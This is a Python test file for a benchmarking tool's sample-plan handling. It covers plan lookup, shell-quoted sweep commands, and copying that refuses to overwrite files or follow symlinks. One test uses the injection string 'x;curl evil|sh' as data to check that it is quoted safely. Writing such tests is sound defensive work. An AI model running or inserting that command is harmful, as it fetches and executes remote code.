from __future__ import annotations

from pathlib import Path

import pytest

from engines.runtime.own_packages import CONFIGS
from flows.plan.changes import Changes
from flows.plan.samples import (
    FileInTheWay,
    copy_samples,
    copy_schema,
    find_plan,
    plan_argument,
    sample_plans,
    sweep_command,
)
from flows.plan.source import PlanError, load_plan


def test_every_sample_plan_is_a_plan() -> None:
    for name, file in sample_plans().items():
        assert load_plan(Path(name)).file == file


def test_no_file_of_the_working_directory_stands_for_a_sample_plan(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "quickstart").write_text("name: theirs")
    assert find_plan(Path("quickstart")) == CONFIGS / "quickstart.yaml"
    assert find_plan(tmp_path / "quickstart") == tmp_path / "quickstart"


def test_a_name_that_is_none_names_the_sample_plans() -> None:
    with pytest.raises(PlanError, match=r"no such file\n.*or the name of a sample plan \(aa-cpu, accuracy-cpu, cpu, "):
        load_plan(Path("quickstrat"))
    with pytest.raises(
        PlanError, match=r"^quickstrat: no such file\n  fix: did you mean quickstart\? Otherwise give the"
    ):
        load_plan(Path("quickstrat"))


def test_a_sample_plan_is_called_by_its_name() -> None:
    assert plan_argument(CONFIGS / "cpu.yaml") == "cpu"
    assert plan_argument(Path("plans/cpu.yaml")) == "plans/cpu.yaml"
    assert plan_argument(Path("x;curl evil|sh")) == "'x;curl evil|sh'"  # a run's, which may be somebody else's
    assert plan_argument(Path("--help")) == "./--help"


def test_a_sweep_goes_on_by_the_command_that_it_was_begun_with() -> None:
    """The run's page and `retry` print it: without the data root all that was scored would be scored again."""
    changes = Changes(sets=("load[0].concurrency=8",), only=("gptq*",))
    command = sweep_command(CONFIGS / "cpu.yaml", "my data", changes)
    assert command == "bitfrontier sweep cpu --data-root 'my data' --set 'load[0].concurrency=8' --only 'gptq*'"
    assert sweep_command(CONFIGS / "cpu.yaml", None, Changes()) == "bitfrontier sweep cpu"


def test_copies_overwrite_nothing(tmp_path: Path) -> None:
    (tmp_path / "prefect.yaml").write_text("mine")
    with pytest.raises(FileInTheWay, match=r"prefect\.yaml exists: nothing was copied"):
        copy_samples(tmp_path)
    assert [file.name for file in tmp_path.iterdir()] == ["prefect.yaml"]


def test_copies_are_written_through_no_link(tmp_path: Path) -> None:
    """The working directory may be somebody else's, who would choose which file of ours is written."""
    ours = tmp_path / "ours"
    (tmp_path / "plan.schema.json").symlink_to(ours)
    copy_schema(tmp_path)
    (tmp_path / "prefect.yaml").symlink_to(ours)
    copy_samples(tmp_path, replace=True)
    assert not ours.exists()
    assert (tmp_path / "plan.schema.json").read_bytes() == (CONFIGS / "plan.schema.json").read_bytes()
